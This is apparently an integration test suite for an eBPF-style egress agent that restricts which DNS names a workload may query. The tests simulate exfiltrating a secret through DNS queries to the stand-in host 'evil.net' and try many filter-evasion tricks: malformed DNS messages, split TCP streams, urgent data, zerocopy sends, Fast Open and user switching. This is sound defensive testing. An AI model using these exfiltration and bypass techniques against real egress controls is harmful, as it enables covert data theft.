//! `dns.queries: Named`: what a workload may ask servers of DNS, by every way to ask and to hide a question.

#![allow(clippy::unwrap_used, reason = "a test ends where it cannot go on")]

use std::{
    fs,
    net::IpAddr,
    sync::atomic::{AtomicBool, Ordering},
};

use egress_agent::control::hexadecimal;
use egress_tests::{
    asker::{self, Asker, Heard, Transport, framed, question, wire},
    eventually,
    netns::Netns,
    resolving::{FAR, NEAR, SIX, WILDCARD, World, policy},
};
use serde_json::{Value, json};

/// Another document of the same workload.
const NAMED: &str = "---\napiVersion: egress.filter/v1alpha1\nkind: EgressPolicy\nmetadata: { name: q }\n\
                     spec: { dns: { queries: Named } }\n";
/// An entry whose addresses are written down, so that its name opens nothing.
const WRITTEN: &str = "---\napiVersion: networking.istio.io/v1\nkind: ServiceEntry\nmetadata: { name: s }\n\
                       spec: { hosts: [ mysql.example.org ], addresses: [ 198.18.9.9/32 ], resolution: NONE, \
                       ports: [ { number: 3306, name: db, protocol: TCP } ] }\n";
/// What no server may hear.
const SECRET: &str = "aqbacgl5";

fn world() -> World {
    World::new(&format!("{WILDCARD}{WRITTEN}{NAMED}"))
}

/// Questions of one sort and another, each as a message.
fn asks(name: &str) -> Vec<u8> {
    question(name, 1)
}

fn secret() -> Vec<u8> {
    asks(&format!("{SECRET}.evil.net"))
}

fn known(number: u8) -> Vec<u8> {
    asks(&format!("198-18-0-{number}.example.com"))
}

/// Refused with `EPERM`, as whoever asked sees it.
fn is_refused(world: &mut World, transport: Transport, server: &str, name: &str) -> bool {
    match world.asker.ask(transport, server.parse().unwrap(), name) {
        Ok(_) => false,
        Err(error) => {
            assert!(error.to_string().contains("os error 1"), "{error}");
            true
        }
    }
}

fn hears_no_secret(world: &World) -> bool {
    !world.has_heard(SECRET.as_bytes())
}

/// What the next denial says of a question.
fn denied(world: &mut World) -> Value {
    let denial = world.agent().denial().unwrap();
    assert_eq!((&denial["reason"], &denial["hook"]), (&json!("dns_query"), &json!("query")), "{denial}");
    denial
}

/// The same of a datagram: what is refused in a stream is tried again for a while, and told again.
fn denied_datagram(world: &mut World) -> Value {
    loop {
        let denial = denied(world);
        if denial["protocol"] == "UDP" {
            return denial;
        }
    }
}

/// Writes pieces of a stream to [`FAR`]; how many answers came, of those that are expected.
fn stream(world: &mut World, way: &str, expected: usize, pieces: &[Vec<u8>]) -> usize {
    let pieces: Vec<String> = pieces.iter().map(|piece| hexadecimal(piece)).collect();
    let answer = world.order(&format!("stream {way} {FAR} {expected} {}", pieces.join(" ")));
    answer.parse().unwrap_or_else(|_| panic!("{answer}"))
}

#[test]
fn only_names_that_a_policy_names_may_be_asked_for() {
    let mut world = world();
    for server in [NEAR, FAR, SIX] {
        for transport in Transport::ALL {
            let found = world.ask(transport, server, "198-18-0-1.a.b.EXAMPLE.com");
            assert_eq!(found, ["198.18.0.1".parse::<IpAddr>().unwrap()], "{transport:?} {server}");
            // Its addresses are written in an entry, and clients ask for it all the same.
            world.ask(transport, server, "mysql.example.org");
        }
        for transport in [Transport::Udp, Transport::Sendto, Transport::Mapped] {
            for name in [SECRET, "example.com", "badexample.com", "x.mysql.example.org", "example.com.evil.net"] {
                assert!(is_refused(&mut world, transport, server, name), "{transport:?} {server} {name}");
                let denial = denied(&mut world);
                assert_eq!(denial["destination"], json!({ "address": server, "port": 53, "host": name }));
                let told = ["verdict", "errno", "protocol"].map(|field| denial[field].as_str().unwrap().to_owned());
                assert_eq!(told, ["deny", "EPERM", "UDP"]);
                assert_eq!(denial["process"]["comm"], "asker");
                assert!(denial["process"]["exe"].as_str().unwrap().ends_with("/asker"), "{denial}");
                assert_eq!(denial["cgroup"]["path"], world.cgroup.name());
            }
        }
    }
    assert!(hears_no_secret(&world) && !world.has_heard(&wire("badexample.com")));
    // To be asked for is not to be opened, and what an answer opens is as it was.
    assert!(world.is_open("198.18.0.1", 443) && !world.is_open("198.18.0.1", 3306));
    assert!(world.is_open("198.18.9.9", 3306) && !world.is_open("198.18.9.8", 3306));
}

/// The kernel keeps what is not sent and adds what comes, until there are whole messages.
#[test]
fn questions_in_a_stream_are_judged_however_they_are_written() {
    let mut world = world();
    let (one, two, three) = (framed(&known(1)), framed(&known(2)), framed(&known(3)));
    let bytes = |bytes: &[u8]| bytes.chunks(1).map(<[u8]>::to_vec).collect::<Vec<_>>();
    for way in ["at-once", "delayed"] {
        assert_eq!(stream(&mut world, way, 1, &[one[..2].to_vec(), one[2..].to_vec()]), 1, "{way}");
        assert_eq!(stream(&mut world, way, 1, &bytes(&one)), 1, "{way}");
        assert_eq!(stream(&mut world, way, 3, &[[&one[..], &two, &three].concat()]), 3, "{way}");
        let (begin, end) = ([&one[..], &two[..9]].concat(), [&two[9..], &three].concat());
        assert_eq!(stream(&mut world, way, 3, &[begin, end]), 3, "{way}");
        assert_eq!(stream(&mut world, way, 2, &[one.clone(), two.clone()]), 2, "{way}");
    }
    let evil = |index: u8| framed(&asks(&format!("{SECRET}-{index}.evil.net")));
    for (index, pieces) in (0..).zip([
        vec![evil(0)],
        vec![[&one[..], &evil(1)].concat()],
        vec![one.clone(), evil(2)],
        vec![evil(3)[..2].to_vec(), evil(3)[2..].to_vec()],
        bytes(&evil(4)),
        vec![[&evil(5)[..], &one].concat()],
        // The end of a message that is allowed, and another.
        vec![one[..20].to_vec(), [&one[20..], &evil(6)].concat()],
    ]) {
        // A question before it may have left by itself.
        assert!(stream(&mut world, "at-once", 0, &pieces) <= 1, "{index}");
        let host = json!(format!("{SECRET}-{index}.evil.net"));
        // What is left of the connections before may be tried again meanwhile, and told again.
        let denial = std::iter::repeat_with(|| denied(&mut world)).find(|denial| denial["destination"]["host"] == host);
        let denial = denial.unwrap();
        assert_eq!((&denial["protocol"], &denial["process"]["comm"]), (&json!("TCP"), &json!("asker")));
        assert_eq!(denial["destination"], json!({ "address": FAR, "port": 53, "host": host }));
    }
    // Nobody waits for what is never sent.
    let failed = world.order(&format!("stream at-once {FAR} 1 {}", hexadecimal(&evil(9))));
    assert!(failed.contains(&format!("os error {}", libc::ETIMEDOUT)), "{failed}");
    assert!(hears_no_secret(&world));
}

/// Before, anything may have been sent, also the beginning of a message that goes on with what is now judged.
#[test]
fn a_connection_from_before_the_policy_is_refused() {
    let mut world = World::new(WILDCARD);
    let order = |world: &mut World, what: &str, message: &[u8]| {
        world.order(&format!("{what} {FAR} {}", hexadecimal(&framed(message))))
    };
    assert_eq!(order(&mut world, "keep", &known(1)), "1");
    world.write(&format!("{WILDCARD}{NAMED}"));
    assert_eq!(order(&mut world, "again", &known(2)), "0");
    let denial = denied(&mut world);
    assert_eq!((&denial["protocol"], &denial["destination"]["host"]), (&json!("TCP"), &json!(null)));
    // One of its own may be used for as long as it likes.
    assert_eq!(order(&mut world, "keep", &known(3)), "1");
    assert_eq!(order(&mut world, "again", &known(4)), "1");
    assert!(!world.has_heard(b"198-18-0-2") && world.has_heard(b"198-18-0-4"));
}

/// Whatever is no plain question for one name of a host.
#[test]
fn what_cannot_be_read_as_one_question_is_refused() {
    let mut world = world();
    let good = known(1);
    let with = |at: usize, value: u8| {
        let mut message = good.clone();
        message[at] = value;
        message
    };
    let raw = |name: &[u8]| [&[0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0][..], name, &[0, 1, 0, 1]].concat();
    let second = [&wire(&format!("{SECRET}.evil.net"))[..], &[0, 1, 0, 1]].concat();
    let two = [&[0, 7, 1, 0, 0, 2, 0, 0, 0, 0, 0, 0][..], &good[12..good.len() - 11], &second].concat();
    let secret_label = [&[u8::try_from(SECRET.len()).unwrap()][..], SECRET.as_bytes()].concat();
    for (what, message) in [
        ("a response", with(2, 0x81)),
        ("an update", with(2, 0x28)),
        ("no question", with(5, 0)),
        ("two questions", two),
        ("an answer", with(7, 1)),
        ("an authority", with(9, 1)),
        ("the root", raw(&[0])),
        ("a pointer", raw(&[&secret_label[..], &[0xc0, 12]].concat())),
        ("a name that never ends", raw(&secret_label.repeat(40))),
        (
            "bytes that no name has",
            raw(&[&[11][..], &[0xff], SECRET.as_bytes(), &[0x2e, 7], b"example", &[3], b"com\0"].concat()),
        ),
        ("a dot within a label", raw(b"\x09a.example\x03com\0")),
        ("half a question", good[..good.len() - 14].to_vec()),
        ("a header", good[..12].to_vec()),
        ("a byte", vec![7]),
        ("anything", [SECRET.as_bytes(); 20].concat()),
        ("too much", [&good[..], &[0; 5000]].concat()),
    ] {
        for server in [FAR, SIX] {
            let to = if server == SIX { format!("[{server}]:53") } else { format!("{server}:53") };
            assert_eq!(world.order(&format!("send plain {to} {}", hexadecimal(&message))), "1", "{what} {server}");
            let denial = denied_datagram(&mut world);
            assert_eq!(denial["destination"]["host"], json!(null), "{what}: {denial}");
        }
        assert_eq!(stream(&mut world, "at-once", 0, &[framed(&message)]), 0, "{what}");
        let is_unique = message.len() >= 12;
        assert!(!(is_unique && world.has_heard(&message)), "{what}");
    }
    assert_eq!(stream(&mut world, "at-once", 0, &[[&[0, 0][..], &framed(&good)].concat()]), 0);
    assert!(hears_no_secret(&world));
    // The control: it is not that nothing is sent.
    assert_eq!(world.order(&format!("send plain {FAR}:53 {}", hexadecimal(&good))), "0");
}

/// Ways by which others read something else than what was judged.
#[test]
fn questions_that_change_after_they_were_judged_are_refused() {
    let mut world = world();
    let send = |world: &mut World, way: &str, message: &[u8]| {
        world.order(&format!("send {way} {FAR}:53 {}", hexadecimal(message)))
    };
    // Two datagrams behind one header: the second is a question of its own.
    let mut padded = secret();
    padded.resize(128, 0);
    let mut first = known(1);
    first.resize(128, 0);
    assert_eq!(send(&mut world, "cut", &[first, padded].concat()), "1");
    denied(&mut world);
    // Bytes that the process, or whoever has the file, may still write to, and what cannot be told from that. Of short ones some
    // kernels make a copy all the same, and some of what is sent of a file: then nobody can.
    let long = |way: &str| [asks(&format!("{way}.example.com")), vec![0; 900]].concat();
    for way in ["zerocopy", "corked", "file"] {
        let answer = send(&mut world, way, &long(way));
        if answer == "1" {
            assert_eq!(denied(&mut world)["destination"]["host"], json!(null), "{way}");
        } else {
            assert_eq!((&*answer, way), ("0", "file"));
            eventually("the copy", || world.has_heard(way.as_bytes()).then_some(())).unwrap();
        }
    }
    // Of others they always do.
    assert_eq!(send(&mut world, "plain", &long("plain")), "0");
    world.ask(Transport::Udp, FAR, "198-18-0-1.example.com");
    assert!(world.has_heard(b"plain") && !world.has_heard(b"zerocopy") && !world.has_heard(b"corked"));
    // A byte that its reader does not find among the others.
    let (one, evil) = (framed(&known(1)), framed(&secret()));
    world.order(&format!("stream urgent {FAR} 0 {} {}", hexadecimal(&one), hexadecimal(&evil)));
    assert!(denied(&mut world)["destination"]["host"].is_null());
    assert!(hears_no_secret(&world));
}

/// The port may be another on the way, as in containers whose server of DNS is made by rules of their host.
#[test]
fn a_socket_that_has_asked_is_judged_wherever_it_sends() {
    let also = "  allow: [ { to: [ { host: '*.example.com' } ], ports: [ { port: 443 } ] }, \
                { to: [ { cidr: 192.0.2.53/32 } ], ports: [ { port: 5353, protocol: UDP } ] } ]\n";
    let mut world = World::new(&format!("{also}{NAMED}"));
    let besides =
        |world: &mut World, message: &[u8]| world.order(&format!("besides {FAR}:5353 {}", hexadecimal(message)));
    world.order("open 192.0.2.1");
    assert_eq!(besides(&mut world, b"anything"), "0");
    assert_eq!(world.order(&format!("query {FAR} 198-18-0-1.example.com")), "");
    assert_eq!(besides(&mut world, &known(1)), "0");
    assert_eq!(besides(&mut world, &secret()), "1");
    let destination = json!({ "address": FAR, "port": 5353, "host": format!("{SECRET}.evil.net") });
    assert_eq!(denied(&mut world)["destination"], destination);
}

/// A number of `/proc/net/netstat`, which has a line of names before each line of numbers.
fn counter(netstat: &str, name: &str) -> u64 {
    let lines: Vec<Vec<&str>> = netstat.lines().map(|line| line.split(' ').collect()).collect();
    let found = lines.chunks(2).find_map(|pair| {
        let index = pair[0].iter().position(|found| *found == name)?;
        pair[1][index].parse().ok()
    });
    found.unwrap()
}

/// A socket is made by one user and used by another, as by daemons that begin as root.
#[test]
fn the_user_who_asks_is_judged_not_the_one_who_made_the_socket() {
    let of_user = NAMED.replace("spec: {", "spec: { workloads: [ { user: 65534 } ],");
    let mut world = World::new(&format!("{WILDCARD}{of_user}"));
    world.order("open 192.0.2.1");
    assert_eq!(world.order(&format!("query {FAR} other.example.net")), "");
    world.order("uid 65534");
    let refused = world.order(&format!("query {FAR} {SECRET}.evil.net"));
    assert!(refused.contains("os error 1"), "{refused}");
    assert_eq!(denied(&mut world)["process"]["uid"], 65534);
    assert_eq!(world.order(&format!("query {FAR} 198-18-0-1.example.com")), "");
    assert!(hears_no_secret(&world));
}

/// By TCP Fast Open, the first bytes go with the first segment.
#[test]
fn a_question_in_the_first_segment_is_judged() {
    const QUICK: &str = "192.0.2.54";
    let asked = NAMED.replace("queries:", &format!("servers: [{QUICK}], queries:"));
    let mut world = World::new(&format!("{WILDCARD}{asked}"));
    let fast_open = |namespace: &Netns, value: &str| {
        namespace.run(|| fs::write("/proc/sys/net/ipv4/tcp_fastopen", value)).unwrap().unwrap();
    };
    // A client that needs no cookie, and a server that needs none, for any socket that listens from now on.
    fast_open(&world.near, "5");
    fast_open(&world.far, "1538");
    let heard = Heard::default();
    world.far.ip(&["address", "add", &format!("{QUICK}/24"), "dev", "far"]).unwrap();
    world.far.run(|| asker::serve(QUICK.parse().unwrap(), &heard)).unwrap().unwrap();
    let ask = |world: &mut World, expected: u8, message: &[u8]| {
        world.order(&format!("stream fast-open {QUICK} {expected} {}", hexadecimal(&framed(message))))
    };
    assert_eq!(ask(&mut world, 1, &known(1)), "1");
    let netstat = world.near.run(|| fs::read_to_string("/proc/thread-self/net/netstat")).unwrap().unwrap();
    assert_eq!(counter(&netstat, "TCPFastOpenActive"), 1);
    ask(&mut world, 0, &secret());
    assert_eq!(denied(&mut world)["destination"]["host"], json!(format!("{SECRET}.evil.net")));
    assert!(heard.has(b"198-18-0-1") && !heard.has(SECRET.as_bytes()));
}

/// The mark is what a socket is judged by where its questions go to another port.
#[test]
fn who_leaves_no_room_for_a_mark_may_not_ask() {
    let mut world = world();
    // In older kernels only the first network namespace tells.
    let most = fs::read_to_string("/proc/sys/net/core/optmem_max").unwrap();
    let order = format!("send stuffed:{} {FAR}:53 {}", most.trim(), hexadecimal(&known(1)));
    let send = |world: &mut World| world.order(&order);
    assert_eq!(send(&mut world), "1");
    let denial = world.agent().denial().unwrap();
    assert_eq!((&denial["reason"], &denial["hook"]), (&json!("fault"), &json!("sendmsg4")));
    // Where nothing is judged, nothing is marked.
    world.write(WILDCARD);
    assert_eq!(send(&mut world), "0");
}

#[test]
fn audit_reports_questions_and_lets_them_through() {
    let mut world = World::new(&format!("{WILDCARD}{}", NAMED.replace("spec: {", "spec: { mode: Audit,")));
    let name = format!("{SECRET}.evil.net");
    for (transport, protocol) in [(Transport::Udp, "UDP"), (Transport::Tcp, "TCP")] {
        assert!(world.ask(transport, FAR, &name).is_empty());
        let denial = denied(&mut world);
        let told = ["verdict", "protocol"].map(|field| denial[field].as_str().unwrap().to_owned());
        assert_eq!(told, ["would_deny", protocol]);
        assert_eq!((&denial["destination"]["host"], &denial["errno"]), (&json!(name), &json!(null)));
        // It asks for two kinds of address.
        denied(&mut world);
    }
    // Nor is anything held back, and what cannot be followed is not told of.
    let question = framed(&known(1));
    assert_eq!(stream(&mut world, "at-once", 1, &[question[..2].to_vec(), question[2..].to_vec()]), 1);
    assert!(world.ask(Transport::Udp, FAR, "last.example.net").is_empty());
    assert_eq!(denied(&mut world)["destination"]["host"], "last.example.net");
    assert!(!hears_no_secret(&world));
}

/// An agent that starts puts nothing on a cgroup before its policy is complete, and somebody who takes something off is noticed.
#[test]
fn questions_are_answered_while_agents_come_and_go() {
    let mut world = world();
    let done = AtomicBool::new(false);
    let mut other = Asker::start(&world.near, &world.cgroup).unwrap();
    std::thread::scope(|scope| {
        let asking = scope.spawn(|| {
            let mut count = 0;
            while !done.load(Ordering::Relaxed) {
                other.ask(Transport::Udp, FAR.parse().unwrap(), "198-18-0-1.example.com").unwrap();
                count += 1;
            }
            count
        });
        for _ in 0..3 {
            world.agent.take().unwrap().kill().unwrap();
            world.start(&[]);
        }
        done.store(true, Ordering::Relaxed);
        assert!(asking.join().unwrap() > 0);
    });
    let sets = fs::read_dir(world.place.pins()).unwrap().map(|set| set.unwrap().path());
    let pins = sets.filter(|set| set.is_dir()).flat_map(|set| fs::read_dir(set).unwrap()).map(|pin| pin.unwrap());
    let pin = pins.into_iter().find(|pin| pin.file_name().to_string_lossy().starts_with("query-")).unwrap();
    fs::remove_file(pin.path()).unwrap();
    eventually("the program", || is_refused(&mut world, Transport::Udp, FAR, SECRET).then_some(())).unwrap();
}

#[test]
fn questions_are_judged_only_where_a_policy_says_so_and_also_without_an_agent() {
    let mut world = World::new(WILDCARD);
    let hooks = |world: &World| world.status()["attached"][0]["hooks"].to_string();
    assert!(!hooks(&world).contains("query"));
    assert!(!is_refused(&mut world, Transport::Udp, FAR, "other.example.net"));
    world.write(&format!("{WILDCARD}{NAMED}"));
    assert!(hooks(&world).contains("query"));
    assert!(is_refused(&mut world, Transport::Udp, FAR, "other.example.net"));
    let counted = world.status()["counters"]["deny"].as_u64().unwrap();
    assert!(counted >= 1);
    // Whatever else is allowed.
    world.write(&format!("  defaultAction: Allow\n{NAMED}"));
    assert!(is_refused(&mut world, Transport::Udp, FAR, "198-18-0-1.example.com"));
    assert!(world.is_open("198.18.7.7", 80));
    world.write(&format!("{WILDCARD}{NAMED}"));
    world.agent.take().unwrap().kill().unwrap();
    assert!(is_refused(&mut world, Transport::Udp, FAR, SECRET));
    assert!(!is_refused(&mut world, Transport::Udp, FAR, "198-18-0-1.example.com"));
    world.start(&[]);
    assert!(is_refused(&mut world, Transport::Udp, FAR, SECRET));
    fs::write(world.policies.path().join("policy.yaml"), policy(WILDCARD)).unwrap();
    world.place.reload().unwrap();
    assert!(!is_refused(&mut world, Transport::Udp, FAR, "other.example.net"));
    assert!(!hooks(&world).contains("query") && hears_no_secret(&world));
}
